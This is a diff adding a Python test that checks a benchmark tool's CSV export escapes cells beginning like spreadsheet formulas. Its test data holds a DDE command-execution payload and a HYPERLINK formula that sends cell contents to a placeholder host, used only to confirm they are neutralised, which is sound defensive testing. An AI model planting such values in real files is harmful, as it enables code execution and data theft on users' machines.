@@ -277,3 +277,25 @@ def test_compare_page_shows_both_runs_devices_and_warnings():
     assert "run A: run-31" in a_part and "Pixel 6" in a_part and "no warnings" in a_part and "7.6 GiB" in a_part
     assert "Pixel &lt;7&gt;" in b_part and "4.0 GiB" in b_part
     assert "1 warning on phone in run B" in b_part and "thermal throttling seen" in b_part and "no thermal throttling" in b_part
+
+
+def test_csv_cells_from_a_device_or_results_file_never_become_formulas():
+    """Issue 24 item 7: a target, a scenario or a warning that starts like a spreadsheet formula
+    (=, +, -, @, tab, CR) is written as text (a leading '); numbers stay numbers."""
+    d = sim()
+    for t in d["targets"]:
+        t["warnings"] = ['=HYPERLINK("http://x/?"&A1,"ok")']
+    old = d["samples"][0]["target"]
+    for s in d["samples"]:
+        s["target"] = "@SUM(1+1)*cmd|' /C calc'!A0" if s["target"] == old else s["target"]
+    for t in d["targets"]:
+        if t["name"] == old:
+            t["name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    text = run_output(d, analyze(d), "csv")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert rows and all(r["target"] == "'@SUM(1+1)*cmd|' /C calc'!A0" for r in rows)
+    assert all(r["warnings"] == "'=HYPERLINK(\"http://x/?\"&A1,\"ok\")" for r in rows)
+    cells = [v for r in rows for v in r.values()]
+    assert not any(v.startswith(("=", "+", "@")) for v in cells)
+    # a negative number is still a number, written as one
+    assert all(not v.startswith("-") or float(v) < 0 for v in cells if v)
